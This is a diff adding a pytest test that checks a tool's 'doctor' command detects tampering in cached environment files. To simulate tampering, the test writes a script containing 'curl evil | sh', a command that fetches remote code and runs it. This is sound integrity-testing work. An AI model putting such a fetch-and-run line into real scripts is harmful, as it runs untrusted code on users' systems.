@@ -49,3 +49,34 @@ def test_doctor_table_is_not_wrapped_when_piped(capsys, tmp_path, monkeypatch):
     monkeypatch.setenv("BAKERY_CACHE_DIR", str(deep))
     main(["doctor"])
     assert str(deep) in capsys.readouterr().out
+
+
+def test_doctor_checks_the_environments_of_known_lockfiles(capsys, tmp_path, monkeypatch):
+    from bakery.envs.cache import EnvCache
+    from bakery.envs.gc import remember_lock
+    from bakery.lock import LockedEnv, Lockfile, write_lock
+    from bakery.spec import EnvSpec
+
+    root = tmp_path / "c"
+    monkeypatch.setenv("BAKERY_CACHE_DIR", str(root))
+    env = LockedEnv(EnvSpec(python="3.11"), "3.11", ())
+    lock = Lockfile("F")
+    lock.set_step("start", env)
+    write_lock(lock, tmp_path / "f.bakery.lock")
+    cache = EnvCache(root)
+    remember_lock(cache, tmp_path / "f.bakery.lock")
+
+    def build(folder):
+        (folder / "bin").mkdir(parents=True)
+        (folder / "bin" / "tool").write_text("#!/bin/sh\n")
+
+    built = cache.ensure("k", env, build)
+    main(["doctor", "--json"])
+    check = _checks(capsys)["environments"]
+    assert check["status"] == "ok" and "1 environment(s) of 1 known lockfile(s)" in check["detail"]
+
+    (built.path / "bin" / "tool").chmod(0o755)
+    (built.path / "bin" / "tool").write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert main(["doctor", "--json"]) == 1
+    check = _checks(capsys)["environments"]
+    assert check["status"] == "fail" and "bin/tool modified" in check["detail"]
